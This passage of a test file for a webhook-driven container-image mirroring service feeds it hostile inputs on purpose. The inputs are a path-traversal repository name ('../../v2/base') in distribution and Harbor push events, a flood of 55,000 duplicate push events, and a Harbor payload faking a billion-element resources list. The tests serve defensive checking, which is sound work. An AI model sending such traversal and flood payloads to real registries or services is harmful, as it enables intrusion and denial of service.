  it('a push event for ../../v2/base is refused and nothing lands outside the target namespace', async ({
    expect,
  }) => {
    const evil = h.repo('../../v2/base', { listed: false }).image()
    expose('../../v2/base', 'v1', evil.entry)
    const ok = h.repo('hooks/ok', { listed: false }).image('v1.0')
    const s = await serve('hooks', '', 'mirror-hooks/in')
    const answers = [
      await post(s, 'distribution', { events: [pushEvent('climb-1', '../../v2/base', 'v1', evil.digest)] }),
      await post(s, 'harbor', {
        type: 'PUSH_ARTIFACT',
        occur_at: 1,
        event_data: {
          resources: [{ digest: evil.digest, tag: 'v1', resource_url: `${H()}/../../v2/base:v1` }],
          repository: { name: 'base', namespace: '../../v2', repo_full_name: '../../v2/base' },
        },
      }),
    ]
    for (const res of answers) {
      const body = (await res.json().catch(() => ({}))) as { queued?: number }
      expect
        .soft(
          res.status === 400 || (res.status < 300 && body.queued === 0),
          `answer ${res.status} ${JSON.stringify(body)}`,
        )
        .toBe(true)
    }
    // a valid push afterwards proves the service syncs at all, so "nothing appeared" means something
    const good = await post(s, 'distribution', { events: [pushEvent('ok-1', 'hooks/ok', 'v1.0', ok.digest)] })
    expect.soft(good.status).toBe(202)
    expect.soft(await mirrored(s, 'mirror-hooks/in/hooks/ok', 'v1.0')).toBe(ok.digest)
    expect.soft(await idle(s, 20_000), 'serve idle').toBe(true)
    expect.soft(s.child.exitCode, `serve exited\n${s.stderr().slice(-2000)}`).toBeNull()
    expect.soft(s.stderr(), 'stack trace on stderr').not.toMatch(STACK)
    expect.soft(s.stderr(), 'ESC or another C0 control character on stderr').not.toMatch(CONTROL)
    await expectTargetIntact(expect)
    s.child.kill('SIGKILL')
  })

  it('55,000 push events for one tag make at most a handful of tasks', async ({ expect }) => {
    const image = h.repo('flood/app', { listed: false }).image('v1')
    const s = await serve('flood', 'flood', 'mirror-flood')
    // identical events but for the id (as many separate pushes of one tag would send), in POSTs under 1 MiB
    const statuses: number[] = []
    let batch: string[] = []
    let size = 0
    const flush = async () => {
      if (batch.length === 0) return
      const res = await post(s, 'distribution', `{"events":[${batch.join(',')}]}`)
      await res.arrayBuffer()
      statuses.push(res.status)
      batch = []
      size = 0
    }
    for (let i = 0; i < 55_000; i++) {
      const event = JSON.stringify(pushEvent(`flood-${i}`, 'flood/app', 'v1', image.digest))
      if (size + event.length + 64 > 1_000_000) await flush()
      batch.push(event)
      size += event.length + 1
    }
    await flush()
    expect.soft(statuses.length, 'POSTs').toBeGreaterThanOrEqual(10)
    expect
      .soft(
        statuses.filter((st) => !(st >= 200 && st < 300) && st !== 429 && st !== 503),
        'answers other than 2xx, 429, 503',
      )
      .toEqual([])
    expect.soft(await mirrored(s, 'mirror-flood/app', 'v1')).toBe(image.digest)
    await idle(s, 20_000)
    const tasks = await taskIds(s.records)
    expect.soft(tasks.size, 'tasks in the records').toBeGreaterThanOrEqual(1)
    expect.soft(tasks.size, 'tasks in the records').toBeLessThanOrEqual(3)
    expect.soft(s.child.exitCode, `serve exited\n${s.stderr().slice(-2000)}`).toBeNull()
    expect.soft((await fetch(`${s.url}/healthz`)).status, 'healthz after the flood').toBe(200)
    await expectTargetIntact(expect)
    s.child.kill('SIGKILL')
  })

  it('a Harbor payload whose resources is {"length": 1000000000} moves "ignored" by at most 1', async ({
    expect,
  }) => {
    const s = await serve('harbor', 'hb', 'mirror-harbor')
    const ignored = 'imgsync_webhook_events_total{source="harbor",result="ignored"}'
    for (const type of ['DELETE_ARTIFACT', 'PUSH_ARTIFACT']) {
      const before = await metric(s, ignored)
      const res = await post(s, 'harbor', {
        type,
        occur_at: 1,
        event_data: {
          resources: { length: 1_000_000_000 },
          repository: { name: 'app', namespace: 'hb', repo_full_name: 'hb/app' },
        },
      })
      await res.arrayBuffer()
      expect.soft(res.status, `${type}: answer`).toBeLessThan(500)
      expect.soft((await metric(s, ignored)) - before, `${type}: ${ignored} moved by`).toBeLessThanOrEqual(1)
    }
    expect.soft(s.child.exitCode, `serve exited\n${s.stderr().slice(-2000)}`).toBeNull()
    expect.soft((await fetch(`${s.url}/healthz`)).status, 'healthz').toBe(200)
    s.child.kill('SIGKILL')
  })
})
